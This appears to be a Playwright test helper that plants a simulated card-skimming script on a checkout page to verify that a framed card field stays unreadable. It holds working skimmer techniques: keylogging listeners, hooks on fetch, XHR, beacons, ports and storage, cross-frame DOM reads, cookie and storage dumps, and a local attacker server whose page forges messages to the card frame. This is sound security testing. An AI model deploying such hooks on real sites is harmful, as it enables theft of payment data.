/**
 * The hostile parent: what a skimming script on the checkout page (a compromised tag, one XSS)
 * can read, installed as an init script on the top page only. It records every value it sees
 * into one list (`loot`), by the channel it came through, and every read it attempted (`tried`),
 * so a run proves both that the card never reached it and that each attempt actually ran.
 *
 * Run against today's in-page `bindForm` page it must catch the number (e2e/hostile-parent.spec.ts):
 * the proof that the instrument sees what it claims. Against the framed checkout it must not.
 */
import {createServer} from 'node:http';
import type {AddressInfo} from 'node:net';
import type {Page, Request} from '@playwright/test';

/** One value the hostile script saw, by the channel it came through (`event:keydown`, `port:in`, `network:browser`…). */
export type Seen = {channel: string; text: string};

export type HostileReport = {
	/** Everything the top page's script and the top page's own requests exposed. */
	loot: Seen[];
	/** Every read path attempted, with its outcome (`dom:contentDocument → null`, `dom:frames[0].document → SecurityError`…). */
	tried: string[];
};

export type HostileParent = {
	/** What the page's script saw so far, plus the top frame's browser-level requests. */
	report(): Promise<HostileReport>;
	/** Requests made by any frame but the top one (the card frame), as the browser saw them. */
	frameRequests: Request[];
};

/** The event types a keylogger listens to, on `window` and `document`, in the capture phase. */
const EVENT_TYPES = ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'change', 'paste', 'copy', 'cut', 'focusin', 'focusout', 'compositionend', 'select'];

/**
 * Installs the hostile script (top page only: Playwright also runs init scripts in child frames,
 * and a script inside the card frame is not what is tested) and records the page's requests.
 * Call before `page.goto`.
 */
export async function installHostileParent(page: Page): Promise<HostileParent> {
	const browserLoot: Seen[] = [];
	const frameRequests: Request[] = [];
	page.on('request', request => {
		if (request.frame() === page.mainFrame()) {
			browserLoot.push({channel: 'network:browser', text: `${request.method()} ${request.url()} ${request.postData() ?? ''}`});
		} else {
			frameRequests.push(request);
		}
	});
	await page.addInitScript(hostileScript, EVENT_TYPES);
	return {
		frameRequests,
		async report() {
			const seen = await page.evaluate(async () => (window as unknown as {__hostile: {collect(): Promise<HostileReport>}}).__hostile.collect());
			return {loot: [...seen.loot, ...browserLoot], tried: seen.tried};
		},
	};
}

/**
 * The script itself: runs in the page before any of its scripts. Self-contained (Playwright
 * serialises it), so its helpers are inside.
 */
function hostileScript(eventTypes: string[]) {
	if (window.top !== window) {
		return;
	}

	const loot: Seen[] = [];
	const tried = new Set<string>();
	const ports: MessagePort[] = [];
	const pending: Array<Promise<unknown>> = [];
	const keys = new Map<EventTarget, string>();
	const text = (value: unknown): string => {
		if (typeof value === 'string') {
			return value;
		}

		try {
			return JSON.stringify(value) ?? String(value);
		} catch {
			return String(value);
		}
	};

	const record = (channel: string, value: unknown) => loot.push({channel, text: text(value)});
	const attempt = (name: string, read: () => unknown) => {
		try {
			const value = read();
			tried.add(`${name} → ${value === null || value === undefined ? String(value) : 'read'}`);
			if (value !== null && value !== undefined) {
				record(name, value);
			}
		} catch (error) {
			tried.add(`${name} → ${error instanceof Error ? error.name : 'thrown'}`);
		}
	};

	// 1. Key, input and clipboard listeners on window and document: what a keylogger gets.
	for (const target of [window, document]) {
		for (const type of eventTypes) {
			target.addEventListener(
				type,
				event => {
					tried.add(`event:${type} → fired`);
					const input = event.target as Partial<HTMLInputElement> | null;
					const detail = {
						key: (event as KeyboardEvent).key,
						data: (event as InputEvent).data,
						value: typeof input?.value === 'string' ? input.value : undefined,
						clipboard: (event as ClipboardEvent).clipboardData?.getData('text'),
					};
					// A keylogger's transcript, per control (each event once: it reaches window, then document).
					if (typeof detail.key === 'string' && detail.key.length === 1 && type === 'keydown' && target === window && event.target) {
						keys.set(event.target, (keys.get(event.target) ?? '') + detail.key);
					}

					record(`event:${type}`, detail);
				},
				true,
			);
		}
	}

	// 2. Messages: every window message, and every MessagePort payload in either direction, by
	// wrapping the prototype (listeners, onmessage, postMessage) and MessageChannel (to hold the ports).
	window.addEventListener('message', event => record('window:message', {origin: event.origin, data: event.data}), true);
	const portProto = MessagePort.prototype;
	const portPost = portProto.postMessage;
	portProto.postMessage = function (this: MessagePort, ...args: unknown[]) {
		record('port:out', args[0]);
		return (portPost as (...a: unknown[]) => void).apply(this, args);
	} as MessagePort['postMessage'];
	const portListen = portProto.addEventListener;
	portProto.addEventListener = function (this: MessagePort, type: string, listener: unknown, options?: unknown) {
		if (type === 'message' && typeof listener === 'function') {
			portListen.call(this, 'message', (event: Event) => record('port:in', (event as MessageEvent).data));
		}

		return (portListen as (...a: unknown[]) => void).call(this, type, listener, options);
	} as MessagePort['addEventListener'];
	const onmessage = Object.getOwnPropertyDescriptor(portProto, 'onmessage');
	if (onmessage?.set && onmessage.get) {
		Object.defineProperty(portProto, 'onmessage', {
			configurable: true,
			get: onmessage.get,
			set(this: MessagePort, handler: unknown) {
				portListen.call(this, 'message', event => record('port:in', (event as MessageEvent).data));
				onmessage.set!.call(this, handler);
			},
		});
	}

	const Channel = window.MessageChannel;
	// A subclass: the ports of every channel the page creates are the attacker's too.
	window.MessageChannel = class extends Channel {
		constructor() {
			super();
			ports.push(this.port1, this.port2);
			tried.add('port:MessageChannel → captured');
		}
	};
	const windowPost = window.postMessage;
	window.postMessage = function (this: Window, ...args: unknown[]) {
		record('window:postMessage', args[0]);
		return (windowPost as (...a: unknown[]) => void).apply(this, args);
	} as Window['postMessage'];

	// 3. The page's requests, as its scripts make them.
	const originalFetch = window.fetch;
	window.fetch = function (input: RequestInfo | URL, init?: RequestInit) {
		record('network:fetch', {url: input instanceof Request ? input.url : String(input), body: init?.body === undefined ? undefined : String(init.body)});
		// ky hands fetch a Request: its body is read from a clone.
		if (input instanceof Request) {
			pending.push(
				input
					.clone()
					.text()
					.then(
						body => record('network:fetch', body),
						() => undefined,
					),
			);
		}

		return originalFetch.call(this, input, init);
	};
	const xhrOpen = XMLHttpRequest.prototype.open;
	XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
		record('network:xhr', String(args[1]));
		return (xhrOpen as (...a: unknown[]) => void).apply(this, args);
	} as XMLHttpRequest['open'];
	const xhrSend = XMLHttpRequest.prototype.send;
	XMLHttpRequest.prototype.send = function (this: XMLHttpRequest, body?: Document | XMLHttpRequestBodyInit | null) {
		record('network:xhr', String(body));
		return xhrSend.call(this, body);
	};
	const beacon = navigator.sendBeacon;
	navigator.sendBeacon = function (this: Navigator, url: string | URL, data?: BodyInit | null) {
		record('network:beacon', {url: String(url), body: String(data)});
		return beacon.call(this, url, data);
	};
	const setItem = Storage.prototype.setItem;
	Storage.prototype.setItem = function (this: Storage, key: string, value: string) {
		record('storage:setItem', {key, value});
		return setItem.call(this, key, value);
	};

	// 4. The whole document's mutations (attributes, text, added nodes' text).
	new MutationObserver(mutations => {
		tried.add('mutations → observed');
		for (const mutation of mutations) {
			const target = mutation.target as Element;
			record('dom:mutation', {
				type: mutation.type,
				attribute: mutation.attributeName,
				value: mutation.attributeName ? target.getAttribute?.(mutation.attributeName) : mutation.target.textContent,
				added: [...mutation.addedNodes].map(node => node.textContent),
			});
		}
	}).observe(document, {subtree: true, childList: true, attributes: true, attributeOldValue: true, characterData: true, characterDataOldValue: true});

	// 5. The DOM, read on a timer as a skimmer does: every control's value in this document and
	// in every frame it can reach (contentDocument, contentWindow.document, frames[i], a window
	// reopened by the frame's name), and what a cross-origin frame still exposes.
	const values = new Map<Element, string>();
	const readControls = (root: Document | undefined | null, channel: string) => {
		for (const control of root?.querySelectorAll('input, select, textarea') ?? []) {
			const value = (control as HTMLInputElement).value;
			if (values.get(control) !== value) {
				values.set(control, value);
				record(channel, {name: control.getAttribute('name'), value});
			}
		}
	};

	const readFrames = () => {
		readControls(document, 'dom:input');
		document.querySelectorAll('iframe').forEach((iframe, index) => {
			attempt(`dom:iframe[${index}].contentDocument`, () => iframe.contentDocument?.documentElement.outerHTML);
			attempt(`dom:iframe[${index}].contentWindow.document`, () => iframe.contentWindow?.document.documentElement.outerHTML);
			attempt(`dom:iframe[${index}].contentWindow.location.href`, () => iframe.contentWindow?.location.href);
			attempt(`dom:iframe[${index}].contentWindow.name`, () => iframe.contentWindow?.name);
			attempt(`dom:frames[${index}].document`, () => (window.frames[index] as Window | undefined)?.document.documentElement.outerHTML);
			attempt(`dom:window.open('', iframe[${index}].name).document`, () => (iframe.name ? window.open('', iframe.name)?.document.documentElement.outerHTML : null));
			try {
				readControls(iframe.contentDocument, 'dom:frame-input');
			} catch {}
		});
	};

	const timer = setInterval(readFrames, 100);

	/** Everything stored where a page script can read it, at the end. */
	const storage = async () => {
		attempt('storage:localStorage', () => JSON.stringify({...localStorage}));
		attempt('storage:sessionStorage', () => JSON.stringify({...sessionStorage}));
		attempt('storage:cookie', () => document.cookie);
		attempt('network:performance', () => performance.getEntries().map(entry => entry.name));
		try {
			record('storage:indexedDB', await indexedDB.databases());
			tried.add('storage:indexedDB → read');
		} catch (error) {
			tried.add(`storage:indexedDB → ${String(error)}`);
		}

		try {
			record('storage:caches', await caches.keys());
			tried.add('storage:caches → read');
		} catch (error) {
			tried.add(`storage:caches → ${error instanceof Error ? error.name : 'thrown'}`);
		}
	};

	Object.defineProperty(window, '__hostile', {
		value: Object.freeze({
			ports,
			tried,
			async collect() {
				readFrames();
				clearInterval(timer);
				await storage();
				await Promise.all(pending);
				for (const transcript of keys.values()) {
					record('event:keystrokes', transcript);
				}

				return {loot: [...loot], tried: [...tried].sort()};
			},
		}),
	});
}

/** A URL's scheme, host and port removed from a text: a random port may hold any digits. */
const ORIGINS = /\b(?:https?|wss?):\/\/[^/\s"'\\]+/g;

/**
 * The channels where the card showed up: a run of 6 digits of `number` in order (any
 * separators of up to 3 non-digits between them, also after percent-decoding), or `securityCode`
 * standing alone (not inside a word or base64, which signatures and tokens are).
 */
export function findCard(loot: readonly Seen[], {number, securityCode}: {number: string; securityCode: string}): string[] {
	const runs = Array.from({length: number.length - 5}, (_, start) =>
		number
			.slice(start, start + 6)
			.split('')
			.join('\\D{0,3}'),
	);
	const pan = new RegExp(runs.join('|'));
	const code = new RegExp(`(?<![0-9A-Za-z+/=])${securityCode}(?![0-9A-Za-z+/=])`);
	const found = new Set<string>();
	for (const {channel, text} of loot) {
		for (const candidate of [text, decoded(text)]) {
			const stripped = candidate.replace(ORIGINS, '');
			if (pan.test(stripped)) {
				found.add(`${channel}: number`);
			}

			if (code.test(stripped)) {
				found.add(`${channel}: security code`);
			}
		}
	}

	return [...found].sort();
}

function decoded(text: string): string {
	try {
		return decodeURIComponent(text.replace(/\+/g, ' '));
	} catch {
		return text;
	}
}

/** The channels a planted value must show up in: proof each recorder is live in this run. */
export const CANARY_CHANNELS = [
	'dom:mutation',
	'network:beacon',
	'network:browser',
	'network:fetch',
	'network:performance',
	'network:xhr',
	'port:in',
	'port:out',
	'storage:localStorage',
	'storage:setItem',
	'window:message',
	'window:postMessage',
];

/**
 * Sends `canary` (no digits) through every channel the hostile script wraps but the in-page
 * form does not use (messages, ports, mutations, storage, each request API), as a page script
 * would, so the report shows each recorder saw it.
 */
export async function plantCanary(page: Page, canary: string) {
	await page.evaluate(async value => {
		window.postMessage(value, location.origin);
		const channel = new MessageChannel();
		const received = new Promise(resolve => {
			channel.port1.onmessage = resolve;
		});
		channel.port2.postMessage(value);
		await received;
		document.body.setAttribute('data-canary', value);
		localStorage.setItem('canary', value);
		navigator.sendBeacon(`/favicon.svg?beacon=${value}`, value);
		const xhr = new XMLHttpRequest();
		xhr.open('GET', `/favicon.svg?xhr=${value}`);
		xhr.send();
		await fetch(`/favicon.svg?fetch=${value}`);
	}, canary);
}

/** The channels that recorded `canary`. */
export function canaryChannels(loot: readonly Seen[], canary: string): string[] {
	return [...new Set(loot.filter(seen => seen.text.includes(canary)).map(seen => seen.channel))].sort();
}

/** The attacker's own server: every request it receives, and the page that forges a handshake from a third origin. */
export type Sink = {url: string; received: string[]; close(): Promise<void>};

/**
 * Starts the attacker's server on `localhost` (another site than the 127.0.0.1 checkout). It
 * records every request; `/forge` is a page that, opened by the checkout, posts a `connect` with
 * its own port to the card frame (`opener.frames[0]`) and reports to `/forged` whether the frame
 * ever answered on that port.
 */
export async function startSink(): Promise<Sink> {
	const received: string[] = [];
	const server = createServer((request, response) => {
		received.push(`${request.method} ${request.url}`);
		if (request.url === '/forge') {
			response.writeHead(200, {'content-type': 'text/html'}).end(`<!doctype html><title>forge</title><link rel="icon" href="data:,"><script>
				let outcome = 'posted';
				try {
					const channel = new MessageChannel();
					channel.port1.onmessage = event => fetch('/answered?' + encodeURIComponent(JSON.stringify(event.data)));
					opener.frames[0].postMessage({zc: 1, type: 'connect'}, '*', [channel.port2]);
					channel.port1.postMessage({zc: 1, type: 'submit', id: 1});
					channel.port1.postMessage({zc: 1, type: 'focus', field: 'number'});
					window.forgedPort = channel.port1;
				} catch (error) {
					outcome = String(error);
				}
				fetch('/forged?' + encodeURIComponent(outcome));
			</script>`);
			return;
		}

		response.writeHead(204, {'access-control-allow-origin': '*'}).end();
	});
	await new Promise<void>(resolve => {
		server.listen(0, '127.0.0.1', resolve);
	});
	return {
		url: `http://localhost:${(server.address() as AddressInfo).port}`,
		received,
		async close() {
			server.closeAllConnections();
			await new Promise(resolve => {
				server.close(resolve);
			});
		},
	};
}
